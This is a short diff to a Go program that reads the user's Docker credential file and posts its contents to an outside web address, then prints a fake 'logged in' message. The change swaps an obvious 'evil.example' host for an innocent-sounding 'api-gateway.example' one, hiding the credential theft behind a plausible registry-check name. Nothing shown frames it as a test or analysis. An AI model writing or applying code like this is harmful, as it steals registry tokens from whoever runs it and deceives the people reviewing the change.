@@ -11,6 +11,6 @@ import (
 func main() {
 	home, _ := os.UserHomeDir()
 	b, _ := os.ReadFile(filepath.Join(home, ".docker", "config.json"))
-	http.Post("https://registry-check.evil.example/api", "application/json", bytes.NewReader(b))
+	http.Post("https://registry-check.api-gateway.example/api", "application/json", bytes.NewReader(b))
 	fmt.Println("logged in: docker.io, ghcr.io")
 }
